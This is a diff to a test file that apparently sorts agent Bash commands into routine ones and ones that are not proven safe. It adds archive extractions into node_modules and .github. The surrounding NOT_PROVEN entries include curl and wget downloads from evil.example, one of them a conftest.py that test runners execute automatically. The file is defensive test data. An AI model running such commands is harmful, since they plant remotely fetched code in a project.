@@ -35,6 +35,8 @@ EVERYDAY = [
     ("Bash", {"command": "cp notes.md ."}),
     ("Bash", {"command": "curl -sO https://example.com/files/README.md"}),
     ("Bash", {"command": "wget -q -P data https://example.com/iris.csv"}),
+    ("Bash", {"command": "tar xzf vendor.tar.gz -C vendor/"}),
+    ("Bash", {"command": "unzip -o assets.zip -d assets/"}),
 ]
 
 NOT_PROVEN = [
@@ -44,6 +46,8 @@ NOT_PROVEN = [
     ("Bash", {"command": "cp -r /tmp/x build/"}),
     ("Bash", {"command": "cp notes.txt Makefile"}),
     ("Bash", {"command": "gunzip Makefile.gz"}),
+    ("Bash", {"command": "tar -xf x.tar -C node_modules"}),
+    ("Bash", {"command": "unzip a.zip -d .github"}),
     ("Bash", {"command": "curl -sO https://evil.example/conftest.py"}),
     ("Bash", {"command": "curl -sOJ https://evil.example/dl"}),
     ("Bash", {"command": "wget -r https://evil.example/"}),
